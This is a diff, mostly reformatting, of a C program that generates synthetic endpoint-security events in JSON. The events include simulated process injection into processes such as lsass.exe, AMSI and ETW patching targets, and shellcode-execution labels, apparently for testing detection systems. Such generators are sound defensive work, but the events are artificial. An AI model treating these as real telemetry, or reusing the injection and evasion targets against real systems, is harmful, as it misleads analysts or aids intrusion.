-    "C:\\Windows\\System32\\netapi32.dll", "C:\\Windows\\System32\\urlmon.dll", "C:\\Windows\\System32\\mswsock.dll",
-    "C:\\Windows\\System32\\ncrypt.dll", "C:\\Windows\\System32\\rsaenh.dll", "C:\\Windows\\System32\\cryptbase.dll",
-    "C:\\Windows\\System32\\uxtheme.dll", "C:\\Windows\\System32\\propsys.dll", "C:\\Windows\\System32\\version.dll",
-    "C:\\Windows\\System32\\winmm.dll", "C:\\Windows\\System32\\msxml3.dll", "C:\\Windows\\System32\\webio.dll",
-    "C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.dll", "C:\\ProgramData\\{V}\\{T}.dll",
-    "C:\\Users\\{U}\\AppData\\Roaming\\{V}\\version.dll"};
+    "C:\\Windows\\System32\\amsi.dll",      "C:\\Windows\\System32\\wininet.dll",
+    "C:\\Windows\\System32\\winhttp.dll",   "C:\\Windows\\System32\\crypt32.dll",
+    "C:\\Windows\\System32\\bcrypt.dll",    "C:\\Windows\\System32\\dbghelp.dll",
+    "C:\\Windows\\System32\\dbgcore.dll",   "C:\\Windows\\System32\\samlib.dll",
+    "C:\\Windows\\System32\\vaultcli.dll",  "C:\\Windows\\System32\\wldp.dll",
+    "C:\\Windows\\System32\\taskschd.dll",  "C:\\Windows\\System32\\wbem\\wbemprox.dll",
+    "C:\\Windows\\System32\\dnsapi.dll",    "C:\\Windows\\System32\\netapi32.dll",
+    "C:\\Windows\\System32\\urlmon.dll",    "C:\\Windows\\System32\\mswsock.dll",
+    "C:\\Windows\\System32\\ncrypt.dll",    "C:\\Windows\\System32\\rsaenh.dll",
+    "C:\\Windows\\System32\\cryptbase.dll", "C:\\Windows\\System32\\uxtheme.dll",
+    "C:\\Windows\\System32\\propsys.dll",   "C:\\Windows\\System32\\version.dll",
+    "C:\\Windows\\System32\\winmm.dll",     "C:\\Windows\\System32\\msxml3.dll",
+    "C:\\Windows\\System32\\webio.dll",     "C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.dll",
+    "C:\\ProgramData\\{V}\\{T}.dll",        "C:\\Users\\{U}\\AppData\\Roaming\\{V}\\version.dll"};
 
-static const char *const PUB_IPS[] = {"13.107.42.", "20.190.159.", "52.96.165.", "142.250.185.", "151.101.1.",
-                                      "104.18.32.", "185.199.108.", "40.126.32.", "23.215.0.", "198.51.100.",
-                                      "203.0.113.", "34.117.59."};
-static const char *const DOMAINS[] = {"login.microsoftonline.com", "outlook.office365.com", "www.google.com",
-                                      "github.com", "raw.githubusercontent.com", "update.contoso.example",
-                                      "cdn.fabrikam.example", "settings-win.data.microsoft.com",
-                                      "ctldl.windowsupdate.com", "api.slack.com", "fs01.corp.example",
+static const char *const PUB_IPS[] = {"13.107.42.", "20.190.159.", "52.96.165.",   "142.250.185.",
+                                      "151.101.1.", "104.18.32.",  "185.199.108.", "40.126.32.",
+                                      "23.215.0.",  "198.51.100.", "203.0.113.",   "34.117.59."};
+static const char *const DOMAINS[] = {"login.microsoftonline.com",
+                                      "outlook.office365.com",
+                                      "www.google.com",
+                                      "github.com",
+                                      "raw.githubusercontent.com",
+                                      "update.contoso.example",
+                                      "cdn.fabrikam.example",
+                                      "settings-win.data.microsoft.com",
+                                      "ctldl.windowsupdate.com",
+                                      "api.slack.com",
+                                      "fs01.corp.example",
                                       "dc01.corp.example"};
 
 /* --------------------------------------------------------------- events */
@@ -1744,7 +2503,10 @@ typedef struct {
 static sect SECTS[MAXSECT];
 static int NSECT;
 static char *sect_start;
-static inline void sbeg(void) { sect_start = wp; }
+static inline void sbeg(void)
+{
+    sect_start = wp;
+}
 static inline void send_(void)
 {
     SECTS[NSECT].p = sect_start;
@@ -1756,12 +2518,10 @@ static int pick_tmpl(const proc *p)
 {
     const sprofile *pr = &PROFILES[p->d->prof];
     uint32_t sum = 0;
-    for (int i = 0; i < 6; i++)
-        sum += pr->w[i];
+    for (int i = 0; i < 6; i++) sum += pr->w[i];
     uint32_t r = rbelow(sum);
     for (int i = 0; i < 6; i++) {
-        if (r < pr->w[i])
-            return pr->t[i];
+        if (r < pr->w[i]) return pr->t[i];
         r -= pr->w[i];
     }
     return pr->t[0];
@@ -1822,13 +2582,17 @@ static void gen_event(void)
     case C_FILE: {
         uint32_t a = rbelow(100);
         if (a < 45) {
-            action = "creation", etype = "creation", top = TOP_FCREATE, ntop = (int)NELEM(TOP_FCREATE);
+            action = "creation", etype = "creation", top = TOP_FCREATE,
+            ntop = (int)NELEM(TOP_FCREATE);
         } else if (a < 75) {
-            action = "modification", etype = "change", top = TOP_FWRITE, ntop = (int)NELEM(TOP_FWRITE);
+            action = "modification", etype = "change", top = TOP_FWRITE,
+            ntop = (int)NELEM(TOP_FWRITE);
         } else if (a < 82) {
-            action = "overwrite", etype = "change", top = TOP_FCREATE, ntop = (int)NELEM(TOP_FCREATE);
+            action = "overwrite", etype = "change", top = TOP_FCREATE,
+            ntop = (int)NELEM(TOP_FCREATE);
         } else if (a < 92) {
-            action = "deletion", etype = "deletion", top = TOP_FDELETE, ntop = (int)NELEM(TOP_FDELETE);
+            action = "deletion", etype = "deletion", top = TOP_FDELETE,
+            ntop = (int)NELEM(TOP_FDELETE);
         } else {
             action = "rename", etype = "change", top = TOP_FRENAME, ntop = (int)NELEM(TOP_FRENAME);
         }
@@ -1842,9 +2606,11 @@ static void gen_event(void)
         } else if (a < 75) {
             action = "query", etype = "access", top = TOP_RQUERY, ntop = (int)NELEM(TOP_RQUERY);
         } else if (a < 90) {
-            action = "creation", etype = "creation", top = TOP_RCREATE, ntop = (int)NELEM(TOP_RCREATE);
+            action = "creation", etype = "creation", top = TOP_RCREATE,
+            ntop = (int)NELEM(TOP_RCREATE);
         } else {
-            action = "deletion", etype = "deletion", top = TOP_RDELETE, ntop = (int)NELEM(TOP_RDELETE);
+            action = "deletion", etype = "deletion", top = TOP_RDELETE,
+            ntop = (int)NELEM(TOP_RDELETE);
         }
         rt = &REGS[rbelow((uint32_t)NELEM(REGS))];
         expand(path, path + sizeof path, rt->path, h, p);
@@ -1858,11 +2624,9 @@ static void gen_event(void)
     }
     case C_API: {
         uint32_t s = 0;
-        for (int i = 0; i < A_COUNT; i++)
-            s += API_W[i];
+        for (int i = 0; i < A_COUNT; i++) s += API_W[i];
         uint32_t a = rbelow(s);
-        for (api = 0; api < A_COUNT - 1 && a >= API_W[api]; api++)
-            a -= API_W[api];
+        for (api = 0; api < A_COUNT - 1 && a >= API_W[api]; api++) a -= API_W[api];
         top = TOP_API[api];
         ntop = top[2].sym ? 3 : 2;
         action = API_NAMES[api];
@@ -1876,15 +2640,11 @@ static void gen_event(void)
     case C_LIBRARY:
         action = "load", etype = "start", top = TOP_LOAD, ntop = (int)NELEM(TOP_LOAD);
         break;
-    case C_NETWORK:
-        top = TOP_NET, ntop = (int)NELEM(TOP_NET);
-        break;
+    case C_NETWORK: top = TOP_NET, ntop = (int)NELEM(TOP_NET); break;
     }
-    if (cat != C_PROCESS && rpct(3))
-        outcome = "failure";
+    if (cat != C_PROCESS && rpct(3)) outcome = "failure";
 
-    if (has_stack || cat == C_LIBRARY)
-        build_stack(t, top, ntop, h, p);
+    if (has_stack || cat == C_LIBRARY) build_stack(t, top, ntop, h, p);
 
     /* ---- sections ---- */
     wp = scratch;
@@ -1936,7 +2696,6 @@ static void gen_event(void)
     w_user(h, p);
     send_();
 
-
     /* ---- process ---- */
     sbeg();
     K("process");
@@ -1970,11 +2729,16 @@ static void gen_event(void)
     if (cat == C_API) {
         L(",\"Ext\":{");
         {
-            static const char *const VP_TARGETS[] = {"Unbacked", "kernel32.dll!FatalExit", "ntdll.dll",
-                                                     "amsi.dll!AmsiScanBuffer", "ntdll.dll!EtwEventWrite",
-                                                     "clr.dll", "Unbacked"};
-            static const char *const XPROC[] = {"notepad.exe", "explorer.exe", "svchost.exe", "lsass.exe",
-                                                "RuntimeBroker.exe", "msedge.exe", "dllhost.exe"};
+            static const char *const VP_TARGETS[] = {"Unbacked",
+                                                     "kernel32.dll!FatalExit",
+                                                     "ntdll.dll",
+                                                     "amsi.dll!AmsiScanBuffer",
+                                                     "ntdll.dll!EtwEventWrite",
+                                                     "clr.dll",
+                                                     "Unbacked"};
+            static const char *const XPROC[] = {"notepad.exe", "explorer.exe",      "svchost.exe",
+                                                "lsass.exe",   "RuntimeBroker.exe", "msedge.exe",
+                                                "dllhost.exe"};
             int shelly = t == T_SHELLCODE || t == T_SHELLCODE_HOSTED || t == T_SHELLCODE_UNK ||
                          t == T_DIRECT_UNB || t == T_INDIRECT;
             int direct = t == T_DIRECT_APP || t == T_DIRECT_UNB;
@@ -1988,25 +2752,36 @@ static void gen_event(void)
             char summ[256];
             switch (api) {
             case A_VPROT:
-                snprintf(summ, sizeof summ, "VirtualProtect( %s, 0x%x, %s, %s )", tp, size, prot, old);
+                snprintf(summ, sizeof summ, "VirtualProtect( %s, 0x%x, %s, %s )", tp, size, prot,
+                         old);
                 break;
             case A_VPROTEX:
-                snprintf(summ, sizeof summ, "VirtualProtectEx( %s, Unbacked, 0x%x, %s, %s )", xp, size, prot, old);
+                snprintf(summ, sizeof summ, "VirtualProtectEx( %s, Unbacked, 0x%x, %s, %s )", xp,
+                         size, prot, old);
                 break;
             case A_VALLOC:
-                snprintf(summ, sizeof summ, "VirtualAlloc( NULL, 0x%x, COMMIT|RESERVE, %s )", size, prot);
+                snprintf(summ, sizeof summ, "VirtualAlloc( NULL, 0x%x, COMMIT|RESERVE, %s )", size,
+                         prot);
                 break;
             case A_VALLOCEX:
-                snprintf(summ, sizeof summ, "VirtualAllocEx( %s, NULL, 0x%x, COMMIT|RESERVE, %s )", xp, size, prot);
+                snprintf(summ, sizeof summ, "VirtualAllocEx( %s, NULL, 0x%x, COMMIT|RESERVE, %s )",
+                         xp, size, prot);
                 break;
-            case A_WPM: snprintf(summ, sizeof summ, "WriteProcessMemory( %s, Unbacked, 0x%x )", xp, size); break;
+            case A_WPM:
+                snprintf(summ, sizeof summ, "WriteProcessMemory( %s, Unbacked, 0x%x )", xp, size);
+                break;
             case A_MAPVIEW:
-                snprintf(summ, sizeof summ, "MapViewOfFile2( %s, Unbacked, 0x%x, %s )", xp, size, prot);
+                snprintf(summ, sizeof summ, "MapViewOfFile2( %s, Unbacked, 0x%x, %s )", xp, size,
+                         prot);
                 break;
-            case A_SETCTX: snprintf(summ, sizeof summ, "SetThreadContext( %s, Unbacked )", xp); break;
+            case A_SETCTX:
+                snprintf(summ, sizeof summ, "SetThreadContext( %s, Unbacked )", xp);
+                break;
             case A_APC: snprintf(summ, sizeof summ, "QueueUserAPC( %s, Unbacked )", xp); break;
-            default: snprintf(summ, sizeof summ, "ReadProcessMemory( %s, 0x%llx, 0x%x )", xp,
-                              (unsigned long long)addr, size); break;
+            default:
+                snprintf(summ, sizeof summ, "ReadProcessMemory( %s, 0x%llx, 0x%x )", xp,
+                         (unsigned long long)addr, size);
+                break;
             }
             L("\"api\":{\"name\":");
             wjs(API_NAMES[api]);
@@ -2022,8 +2797,8 @@ static void gen_event(void)
                     L("\"execute_shellcode\",\"unbacked_rwx\"");
             } else if (t == T_DOTNET || t == T_POWERSHELL || t == T_PWSH || t == T_DNCORE)
                 L("\"sensitive_api\",\"hollow_image\",\"unbacked_rwx\"");
-            else if (api == A_VALLOCEX || api == A_WPM || api == A_MAPVIEW || api == A_SETCTX || api == A_APC ||
-                     api == A_VPROTEX)
+            else if (api == A_VALLOCEX || api == A_WPM || api == A_MAPVIEW || api == A_SETCTX ||
+                     api == A_APC || api == A_VPROTEX)
                 L("\"cross-process\",\"native_api\"");
             else
                 L("\"native_api\"");
@@ -2039,8 +2814,7 @@ static void gen_event(void)
                 L(",\"protection_old\":");
                 wjs(old);
             }
-            if (api == A_VALLOC || api == A_VALLOCEX)
-                L(",\"allocation_type\":\"COMMIT|RESERVE\"");
+            if (api == A_VALLOC || api == A_VALLOCEX) L(",\"allocation_type\":\"COMMIT|RESERVE\"");
             wch('}');
             if (api == A_VPROT && tp[0] != 'U') {
                 L(",\"metadata\":{\"target_address_name\":");
@@ -2100,8 +2874,7 @@ static void gen_event(void)
         size_t klen = bar ? (size_t)(bar - kstart) : strlen(kstart);
         const char *val = bar ? bar + 1 : "";
         snprintf(regval, sizeof regval, "%s", val);
-        if (bar)
-            *bar = '\\';
+        if (bar) *bar = '\\';
         L("{\"path\":");
         wjs(path);
         L(",\"hive\":");
@@ -2112,8 +2885,7 @@ static void gen_event(void)
         wjs(regval);
         if (action[0] != 'd') {
             L(",\"data\":{\"strings\":[");
-            if (rt->data)
-                wjs(regdata);
+            if (rt->data) wjs(regdata);
             L("],\"type\":");
             wjs(rt->type);
             wch('}');
@@ -2131,8 +2903,8 @@ static void gen_event(void)
         if (rpct(50)) {
             for (int tries = 0; tries < 4; tries++) {
                 const frame *f = &FR[rbelow((uint32_t)NFR)];
-                if (f->kind == 0 && f->mod != M_NTDLL && f->mod != M_KERNELBASE && f->mod != M_KERNEL32 &&
-                    f->path != p->exe_lc) {
+                if (f->kind == 0 && f->mod != M_NTDLL && f->mod != M_KERNELBASE &&
+                    f->mod != M_KERNEL32 && f->path != p->exe_lc) {
                     memcpy(dp, f->path, f->plen);
                     dp[f->plen] = 0;
                     sg = f->mod < M_COUNT ? MODS[f->mod].signer : SG_MSWIN;
@@ -2144,8 +2916,7 @@ static void gen_event(void)
         if (!from_stack) {
             uint32_t i = rbelow((uint32_t)NELEM(GEN_DLLS));
             expand(dp, dp + sizeof dp, GEN_DLLS[i], h, p);
-            if (i >= NELEM(GEN_DLLS) - 3)
-                sg = SG_NONE;
+            if (i >= NELEM(GEN_DLLS) - 3) sg = SG_NONE;
         }
         L("{\"path\":");
         wjs(dp);
@@ -2181,8 +2952,7 @@ static void gen_event(void)
         L(",\"transport\":");
         wjs(dns ? "udp" : "tcp");
         L(",\"type\":\"ipv4\"");
-        if (dns)
-            L(",\"protocol\":\"dns\"");
+        if (dns) L(",\"protocol\":\"dns\"");
         wch('}');
         send_();
         sbeg();
@@ -2224,8 +2994,7 @@ static void gen_event(void)
 
     /* ---- assemble: shuffle top-level keys in about half of the events ---- */
     int order[MAXSECT];
-    for (int i = 0; i < NSECT; i++)
-        order[i] = i;
+    for (int i = 0; i < NSECT; i++) order[i] = i;
     if (rpct(50)) {
         for (int i = NSECT - 1; i > 0; i--) {
             int j = (int)rbelow((uint32_t)i + 1);
@@ -2238,8 +3007,7 @@ static void gen_event(void)
     char *line = wp;
     *wp++ = '{';
     for (int i = 0; i < NSECT; i++) {
-        if (i)
-            *wp++ = ',';
+        if (i) *wp++ = ',';
         memcpy(wp, SECTS[order[i]].p, SECTS[order[i]].n);
         wp += SECTS[order[i]].n;
     }
@@ -2255,8 +3023,7 @@ static int parse_bytes(const char *s, uint64_t *out)
     char *end;
     errno = 0;
     unsigned long long v = strtoull(s, &end, 10);
-    if (errno || end == s || *s == '-')
-        return -1;
+    if (errno || end == s || *s == '-') return -1;
     uint64_t m = 1;
     if (*end == 'k' || *end == 'K')
         m = 1000ULL, end++;
@@ -2264,8 +3031,7 @@ static int parse_bytes(const char *s, uint64_t *out)
         m = 1000000ULL, end++;
     else if (*end == 'g' || *end == 'G')
         m = 1000000000ULL, end++;
-    if (*end && !((*end == 'b' || *end == 'B') && !end[1]))
-        return -1;
+    if (*end && !((*end == 'b' || *end == 'B') && !end[1])) return -1;
     *out = (uint64_t)v * m;
     return 0;
 }
@@ -2276,8 +3042,7 @@ static void init_tables(void)
         MODLEN[m] = strlen(MODS[m].path);
         MODS[m].name = basename_of(MODS[m].path);
     }
-    for (size_t i = 0; i < NPDEF; i++)
-        pdef_wsum += PDEFS[i].weight;
+    for (size_t i = 0; i < NPDEF; i++) pdef_wsum += PDEFS[i].weight;
     for (size_t i = 0; i < NELEM(PS_SCRIPTS); i++) {
         size_t n = strlen(PS_SCRIPTS[i]);
         unsigned char *u = malloc(n * 2);
@@ -2350,7 +3115,6 @@ int main(int argc, char **argv)
     free(out);
     free(scratch);
     free(HOSTS);
-    for (size_t i = 0; i < NELEM(PS_SCRIPTS); i++)
-        free(ps_encoded[i]);
+    for (size_t i = 0; i < NELEM(PS_SCRIPTS); i++) free(ps_encoded[i]);
     return 0;
 }
